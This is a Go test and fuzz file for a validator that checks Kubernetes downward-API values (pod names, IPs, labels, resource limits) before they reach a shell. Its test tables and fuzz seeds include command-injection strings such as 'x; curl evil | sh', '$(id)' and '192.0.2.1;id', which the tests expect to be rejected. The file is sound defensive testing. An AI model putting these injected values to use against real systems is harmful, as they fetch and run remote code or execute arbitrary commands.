package hostvalue

import (
	"errors"
	"net"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/api/resource"
	"k8s.io/apimachinery/pkg/util/validation"

	"github.com/sealpod/sealpod/imagebuilder/spec"
)

func TestCheck(t *testing.T) {
	long := strings.Repeat("a", 63)
	tests := []struct {
		key, value string
		wantErr    string // "" = accepted
	}{
		{"fieldRef:metadata.name", "web-0", ""},
		{"fieldRef:metadata.name", "web-0.example", ""},
		{"fieldRef:metadata.name", strings.Repeat(long+".", 3) + strings.Repeat("a", 61), ""},
		{"fieldRef:metadata.name", strings.Repeat(long+".", 3) + strings.Repeat("a", 62), "not a DNS-1123 subdomain"},
		{"fieldRef:metadata.name", "x; curl evil | sh", `fieldRef:metadata.name: "x; curl evil | sh" is not a DNS-1123 subdomain`},
		{"fieldRef:metadata.name", "$(id)", "not a DNS-1123 subdomain"},
		{"fieldRef:metadata.name", "Web", "not a DNS-1123 subdomain"},
		{"fieldRef:metadata.name", "", "not a DNS-1123 subdomain"},
		{"fieldRef:metadata.name", "a..b", "not a DNS-1123 subdomain"},
		{"fieldRef:metadata.name", "a\x00", "contains NUL"},
		{"fieldRef:metadata.namespace", "prod", ""},
		{"fieldRef:metadata.namespace", "prod.eu", "not a DNS-1123 label"},
		{"fieldRef:metadata.namespace", long + "a", "not a DNS-1123 label"},
		{"fieldRef:metadata.uid", "0f6c5bd5-93b0-4b5e-9d7e-3f2a1c8e9b10", ""},
		{"fieldRef:metadata.uid", "0f6c5bd5-93b0-4b5e-9d7e-3f2a1c8e9b1", "not a UUID"},
		{"fieldRef:metadata.uid", "0f6c5bd5-93b0-4b5e-9d7e;3f2a1c8e9b10", "not a UUID"},
		{"fieldRef:spec.nodeName", "node-1.example", ""},
		{"fieldRef:spec.nodeName", "node_1", "not a DNS-1123 subdomain"},
		{"fieldRef:spec.serviceAccountName", "default", ""},
		{"fieldRef:spec.serviceAccountName", "de fault", "not a DNS-1123 subdomain"},
		{"fieldRef:status.podIP", "10.0.0.9", ""},
		{"fieldRef:status.podIP", "fd00::9", ""},
		{"fieldRef:status.podIP", "", ""},
		{"fieldRef:status.podIP", "fe80::1%eth0", "not an IP address"},
		{"fieldRef:status.podIP", "010.0.0.9", "not an IP address"},
		{"fieldRef:status.podIP", "10.0.0.9/24", "not an IP address"},
		{"fieldRef:status.hostIP", "192.0.2.1;id", "not an IP address"},
		{"fieldRef:status.podIPs", "10.0.0.9,fd00::9", ""},
		{"fieldRef:status.podIPs", "10.0.0.9, fd00::9", "not a comma-separated list of IP addresses"},
		{"fieldRef:status.hostIPs", "10.0.0.9,", "not a comma-separated list of IP addresses"},
		{"fieldRef:metadata.labels['app']", "web_front.v1", ""},
		{"fieldRef:metadata.labels['example.com/tier']", "", ""},
		{"fieldRef:metadata.labels['app']", "-web", "not a label value"},
		{"fieldRef:metadata.labels['app']", "a b", "not a label value"},
		{"fieldRef:metadata.labels['app']", long + "a", "not a label value"},
		{"fieldRef:metadata.annotations['note']", "any text; $(x) `y` |z", ""},
		{"fieldRef:metadata.annotations['Example.com/Note']", "x", ""},
		{"fieldRef:metadata.annotations['note']", "nul\x00", "contains NUL"},
		{"resourceFieldRef:app/limits.cpu", "1500", ""},
		{"resourceFieldRef:app/requests.memory", "0", ""},
		{"resourceFieldRef:app/limits.hugepages-2Mi", "9223372036854775807", ""},
		{"resourceFieldRef:app/limits.cpu", "9223372036854775808", "not a non-negative integer"},
		{"resourceFieldRef:app/limits.cpu", "-1", "not a non-negative integer"},
		{"resourceFieldRef:app/limits.cpu", "01", "not a non-negative integer"},
		{"resourceFieldRef:app/limits.cpu", "1.5", "not a non-negative integer"},
		{"resourceFieldRef:app/limits.cpu", "500m", "not a non-negative integer"},
		// Keys outside the table.
		{"fieldRef:metadata.evil", "x", `"fieldRef:metadata.evil": not a downward-API field`},
		{"fieldRef:metadata.labels", "x", "not a downward-API field"},
		{"fieldRef:metadata.labels['a b']", "x", "not a qualified name"},
		{"fieldRef:metadata.labels[app]", "x", "not a downward-API field"},
		{"fieldRef:metadata.labels['']", "x", "not a downward-API field"},
		{"fieldRef:status.phase", "Running", "not a downward-API field"},
		{"resourceFieldRef:limits.cpu", "1", "want resourceFieldRef:<container>/<resource>"},
		{"resourceFieldRef:App/limits.cpu", "1", "want resourceFieldRef:<container>/<resource>"},
		{"resourceFieldRef:app/limits.nvidia.com/gpu", "1", `resource "limits.nvidia.com/gpu"`},
		{"resourceFieldRef:app/limits.hugepages-", "1", "not a downward-API field"},
		{"secretKeyRef:s/k", "x", "not a downward-API field"},
		{"", "x", "not a downward-API field"},
	}
	for _, tt := range tests {
		err := Check(tt.key, tt.value)
		switch {
		case tt.wantErr == "" && err != nil:
			t.Errorf("Check(%q, %q) = %v, want nil", tt.key, tt.value, err)
		case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
			t.Errorf("Check(%q, %q) = %v, want an error containing %q", tt.key, tt.value, err, tt.wantErr)
		case err != nil && !errors.Is(err, ErrInvalid):
			t.Errorf("Check(%q, %q) = %v, not ErrInvalid", tt.key, tt.value, err)
		}
	}
}

func TestResolve(t *testing.T) {
	tests := []struct {
		owner   string
		env     spec.EnvVar
		value   string
		key     string
		want    string
		wantErr string
	}{
		{"app", spec.EnvVar{FromHost: "fieldRef:metadata.name"}, "web-0", "fieldRef:metadata.name", "web-0", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.cpu"}, "1500", "resourceFieldRef:app/limits.cpu", "2", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.cpu"}, "2000", "resourceFieldRef:app/limits.cpu", "2", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.cpu", Divisor: "1m"}, "1500", "resourceFieldRef:app/limits.cpu", "1500", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:requests.cpu", ContainerName: "side", Divisor: "1"}, "1", "resourceFieldRef:side/requests.cpu", "1", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.memory", Divisor: "1Mi"}, "134217729", "resourceFieldRef:app/limits.memory", "129", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.memory", Divisor: "1Ei"}, "9223372036854775807", "resourceFieldRef:app/limits.memory", "8", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.memory", Divisor: "1k"}, "0", "resourceFieldRef:app/limits.memory", "0", ""},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.cpu", Divisor: "1Mi"}, "1", "resourceFieldRef:app/limits.cpu", "", `divisor "1Mi" is not allowed for limits.cpu`},
		{"app", spec.EnvVar{FromHost: "resourceFieldRef:limits.memory", Divisor: "1m"}, "1", "resourceFieldRef:app/limits.memory", "", `divisor "1m" is not allowed`},
		{"app", spec.EnvVar{FromHost: "fieldRef:metadata.name"}, "a;b", "fieldRef:metadata.name", "", "not a DNS-1123 subdomain"},
	}
	for _, tt := range tests {
		key := Key(tt.owner, tt.env)
		if key != tt.key {
			t.Errorf("Key(%q, %+v) = %q, want %q", tt.owner, tt.env, key, tt.key)
		}
		got, err := Resolve(key, tt.env, tt.value)
		switch {
		case tt.wantErr == "" && (err != nil || got != tt.want):
			t.Errorf("Resolve(%q, %+v, %q) = %q, %v; want %q", key, tt.env, tt.value, got, err, tt.want)
		case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr) || !errors.Is(err, ErrInvalid)):
			t.Errorf("Resolve(%q, %+v, %q) = %q, %v; want an error containing %q", key, tt.env, tt.value, got, err, tt.wantErr)
		}
	}
}

// The divisor table holds exactly what Kubernetes allows, in canonical form, with the
// right size in base units (millicores for cpu, bytes otherwise).
func TestDivisorTable(t *testing.T) {
	for _, tt := range []struct {
		table map[string]int64
		scale func(resource.Quantity) int64
		n     int
	}{
		{cpuDivisors, func(q resource.Quantity) int64 { return q.MilliValue() }, 2},
		{memDivisors, func(q resource.Quantity) int64 { return q.Value() }, 13},
	} {
		if len(tt.table) != tt.n {
			t.Errorf("table %v: %d entries, want %d", tt.table, len(tt.table), tt.n)
		}
		for d, n := range tt.table {
			q := resource.MustParse(d)
			if q.String() != d || tt.scale(q) != n {
				t.Errorf("divisor %q: canonical %q, %d base units; table says %d", d, q.String(), tt.scale(q), n)
			}
		}
	}
}

func TestRefs(t *testing.T) {
	for in, want := range map[string]string{
		"echo $(A) $(B)":    "A,B",
		"$$(A) $(B":         "",
		"$$$(A)":            "A",
		"$() $(A)$(A)":      "A,A",
		"$A ${A} $":         "",
		"x$(A b)y":          "A b",
		"$(A$(B))":          "A$(B",
		"sh -c 'echo $(P)'": "P",
	} {
		if got := strings.Join(Refs(in), ","); got != want {
			t.Errorf("Refs(%q) = %q, want %q", in, got, want)
		}
	}
}

// sameAsKubernetes fails when a validator of this package and apimachinery's disagree.
func sameAsKubernetes(t testing.TB, s string) {
	t.Helper()
	for _, c := range []struct {
		name string
		ours bool
		k8s  []string
	}{
		{"DNS-1123 label", IsDNS1123Label(s), validation.IsDNS1123Label(s)},
		{"DNS-1123 subdomain", IsDNS1123Subdomain(s), validation.IsDNS1123Subdomain(s)},
		{"qualified name", IsQualifiedName(s), validation.IsQualifiedName(s)},
		{"label value", IsLabelValue(s), validation.IsValidLabelValue(s)},
	} {
		if c.ours != (len(c.k8s) == 0) {
			t.Errorf("%s %q: ours %v, apimachinery %q", c.name, s, c.ours, c.k8s)
		}
	}
	// IPs: ours is stricter than the kubelet's parser only by refusing zones, which
	// net.ParseIP refuses too, and leading zeros (legacy forms Kubernetes only warns about).
	if IsIP(s) && net.ParseIP(s) == nil {
		t.Errorf("IP %q: ours accepts, net.ParseIP refuses", s)
	}
	if IsIP(s) && strings.ContainsFunc(s, func(r rune) bool { return !strings.ContainsRune("0123456789abcdefABCDEF.:", r) }) {
		t.Errorf("IP %q accepted with characters outside [0-9a-fA-F.:]", s)
	}
}

func TestSameAsKubernetes(t *testing.T) {
	long := strings.Repeat("a", 63)
	for _, s := range append(seeds(), "", long, long+"a", long+"."+long, strings.Repeat(long+".", 4),
		"a/b", "example.com/"+long, "/a", "a/", "a/b/c", "Example.com/a", "_a", "a_", "a.b", "-", "0") {
		sameAsKubernetes(t, s)
	}
}

// seeds are the fuzz corpus seeds: valid and hostile values of every field.
func seeds() []string {
	return []string{
		"web-0", "web-0.example", "Web", "x; curl evil | sh", "$(id)", "`id`", "a..b", "a.-b", "a-.b",
		"0f6c5bd5-93b0-4b5e-9d7e-3f2a1c8e9b10", "10.0.0.9", "fd00::9", "::ffff:10.0.0.1", "fe80::1%eth0",
		"010.0.0.9", "10.0.0.9,fd00::9", "web_front.v1", "1500", "-1", "01", "9223372036854775808",
		"a\nb", "a\x00", "é", "app", "example.com/tier",
	}
}

func FuzzCheck(f *testing.F) {
	keys := []string{
		"fieldRef:metadata.name", "fieldRef:metadata.namespace", "fieldRef:metadata.uid",
		"fieldRef:spec.nodeName", "fieldRef:spec.serviceAccountName", "fieldRef:status.podIP",
		"fieldRef:status.hostIPs", "fieldRef:metadata.labels['app']", "fieldRef:metadata.annotations['n']",
		"resourceFieldRef:app/limits.cpu", "resourceFieldRef:app/requests.hugepages-2Mi",
	}
	for i, s := range seeds() {
		f.Add(keys[i%len(keys)], s)
	}
	f.Fuzz(func(t *testing.T, key, value string) {
		sameAsKubernetes(t, value)
		field, lerr := Lookup(key)
		err := Check(key, value)
		if err != nil && !errors.Is(err, ErrInvalid) {
			t.Fatalf("Check(%q, %q) = %v, not ErrInvalid", key, value, err)
		}
		if lerr != nil {
			if err == nil {
				t.Fatalf("Check(%q) accepted a key Lookup refuses", key)
			}
			return
		}
		if err != nil {
			return
		}
		// Whatever passes is data for a shell: a non-opaque value holds no character sh
		// treats specially, and no value holds NUL.
		if strings.IndexByte(value, 0) >= 0 {
			t.Fatalf("Check(%q, %q) accepted NUL", key, value)
		}
		if !field.Opaque && strings.ContainsFunc(value, func(r rune) bool {
			return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("-._:,", r))
		}) {
			t.Fatalf("Check(%q, %q) accepted a character outside [A-Za-z0-9-._:,]", key, value)
		}
		if field.Resource {
			if _, err := Resolve(key, spec.EnvVar{FromHost: ResourceFieldRef + field.Path, ContainerName: field.Container}, value); err != nil {
				t.Fatalf("Resolve(%q, %q): %v", key, value, err)
			}
		}
	})
}
